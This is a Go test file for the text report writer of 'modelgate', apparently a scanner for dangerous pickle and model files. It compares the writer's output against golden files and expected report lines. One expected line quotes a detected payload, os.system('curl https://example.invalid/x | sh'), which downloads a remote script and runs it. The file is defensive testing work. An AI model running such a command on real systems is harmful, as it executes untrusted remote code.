@@ -1,0 +1,153 @@
+package text_test
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"flag"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/modelgate/modelgate/core/finding"
+	"github.com/modelgate/modelgate/core/report"
+	"github.com/modelgate/modelgate/core/report/text"
+)
+
+var update = flag.Bool("update", false, "rewrite golden files")
+
+// sample builds the report shared by the writer tests from
+// core/report/testdata/files.json.
+func sample(t *testing.T) *report.Report {
+	t.Helper()
+	b, err := os.ReadFile("../testdata/files.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var files []finding.FileResult
+	if err := json.Unmarshal(b, &files); err != nil {
+		t.Fatal(err)
+	}
+	start := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
+	return report.Build(files, report.Options{
+		Tool:       report.Tool{Name: "modelgate", Version: "1.2.3", URI: "https://github.com/modelgate/modelgate"},
+		Root:       "/repo",
+		FailOn:     finding.SeverityHigh,
+		ExitCode:   1,
+		Verdict:    "3 findings at or above high",
+		StartedAt:  start,
+		FinishedAt: start.Add(1500 * time.Millisecond),
+	})
+}
+
+func golden(t *testing.T, name string, got []byte) {
+	t.Helper()
+	path := filepath.Join("testdata", name)
+	if *update {
+		if err := os.MkdirAll("testdata", 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, got, 0o644); err != nil {
+			t.Fatal(err)
+		}
+		return
+	}
+	want, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("%v (run go test -update)", err)
+	}
+	if !bytes.Equal(got, want) {
+		t.Errorf("output differs from %s (run go test -update to accept):\n%s", path, got)
+	}
+}
+
+func TestWrite(t *testing.T) {
+	pass := sample(t)
+	pass.Files = pass.Files[:1] // README.md only
+	pass.Summary = report.Summarize(pass.Files)
+	pass.ExitCode, pass.Verdict = 0, ""
+
+	tests := []struct {
+		name   string
+		opts   text.Options
+		r      *report.Report
+		golden string
+	}{
+		{"plain", text.Options{}, sample(t), "plain.txt"},
+		{"verbose", text.Options{Verbose: true}, sample(t), "verbose.txt"},
+		{"color", text.Options{Color: true}, sample(t), "color.txt"},
+		{"pass", text.Options{}, pass, "pass.txt"},
+		{"empty", text.Options{}, report.Build(nil, report.Options{}), "empty.txt"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			w := text.New(tt.opts)
+			if w.Name() != "text" {
+				t.Errorf("Name = %q", w.Name())
+			}
+			var buf bytes.Buffer
+			if err := w.Write(context.Background(), &buf, tt.r); err != nil {
+				t.Fatal(err)
+			}
+			out := buf.String()
+			golden(t, tt.golden, buf.Bytes())
+
+			if !tt.opts.Color && strings.Contains(out, "\x1b") {
+				t.Error("escape character in uncoloured output")
+			}
+			if tt.opts.Color {
+				// Only our own SGR sequences: ESC always followed by '[' digits 'm'.
+				for i := strings.Index(out, "\x1b"); i >= 0; i = strings.Index(out, "\x1b") {
+					rest := out[i+1:]
+					end := strings.IndexByte(rest, 'm')
+					if end < 0 || strings.Trim(rest[:end], "[0123456789;") != "" {
+						t.Fatalf("foreign escape sequence at %q", rest[:min(len(rest), 20)])
+					}
+					out = rest[end:]
+				}
+			}
+		})
+	}
+}
+
+func TestContent(t *testing.T) {
+	var buf bytes.Buffer
+	if err := text.New(text.Options{}).Write(context.Background(), &buf, sample(t)); err != nil {
+		t.Fatal(err)
+	}
+	out := buf.String()
+	for _, want := range []string{
+		"models/evil model.pkl  sha256:9f86d081884c",
+		"weights/модель.pt",
+		"CRITICAL  MG101  Pickle invokes a dangerous callable when it is loaded",
+		"member archive/data.pkl, offset 77",
+		"call      os.system('curl https://example.invalid/x | sh')",
+		"NOT SCANNED  MG903  archive/secret.bin: member is encrypted (AES)",
+		"NOT SCANNED  MG904  Git LFS pointer",
+		"[suppressed]",
+		"reason    reviewed: our own sklearn pipeline (expires 2026-12-31)",
+		`mylib.\x1b[31mThing`,
+		"2 files with nothing to report not listed (verbose lists them)",
+		"6 findings: 2 critical, 1 high, 2 medium, 1 low; 1 suppressed",
+		"FAIL: 3 findings at or above high (fail-on high, exit 1)",
+	} {
+		if !strings.Contains(out, want) {
+			t.Errorf("output lacks %q", want)
+		}
+	}
+	for _, absent := range []string{"clean/model.safetensors", "README.md"} {
+		if strings.Contains(out, absent) {
+			t.Errorf("non-verbose output lists clean file %s", absent)
+		}
+	}
+}
+
+func TestCancelled(t *testing.T) {
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+	if err := text.New(text.Options{}).Write(ctx, &bytes.Buffer{}, sample(t)); err == nil {
+		t.Error("Write ignored a cancelled context")
+	}
+}
